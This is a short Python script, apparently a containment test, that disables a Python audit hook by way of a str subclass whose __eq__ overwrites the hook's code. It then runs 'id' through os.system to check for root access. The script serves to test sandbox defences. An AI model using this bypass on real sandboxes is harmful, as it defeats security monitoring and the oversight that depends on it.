"""Switch the audit hook off from plain Python (a str subclass as a module name runs its
__eq__ inside the hook, whose frame holds the mutable list guarding it), then run a command
as the host's user. The kernel boundary must hold with the hook gone."""
import sys
class Name(str):
    def __eq__(self, other):
        frame = sys._getframe(1)
        guarded = frame.f_locals.get("_guarded")
        if guarded:
            hook = guarded[-1]
            guarded.clear()
            hook.__code__ = (lambda *a, **k: None).__code__
        return str.__eq__(self, other)
    __hash__ = str.__hash__
try:
    __import__(Name("colorsys"))
except Exception:  # noqa: BLE001
    pass
import os
status = os.system("id > /tmp/id.txt 2>&1")
if status == 0:
    text = open("/tmp/id.txt").read()
    print("ran id:", text.strip())
    if "uid=0" in text:
        print("ESCAPED: a command ran as root")
